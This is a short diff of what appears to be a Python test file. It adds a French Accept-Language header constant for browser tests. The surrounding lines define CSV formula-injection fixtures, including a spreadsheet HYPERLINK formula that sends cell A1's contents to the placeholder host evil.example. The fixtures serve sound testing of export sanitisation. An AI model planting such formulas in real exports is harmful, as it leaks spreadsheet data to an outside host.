@@ -10,6 +10,8 @@ YEAR = 2025
 # A name a spreadsheet would run: the CSV exports must neutralise it.
 FORMULA_NOM = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
 FORMULA_PRENOM = "@SUM(A1:A9)"
+# Headless Chromium asks for en-US: the browser tests send this to get the French default.
+FRENCH = "fr-FR,fr;q=0.9"
 
 
 class Server:
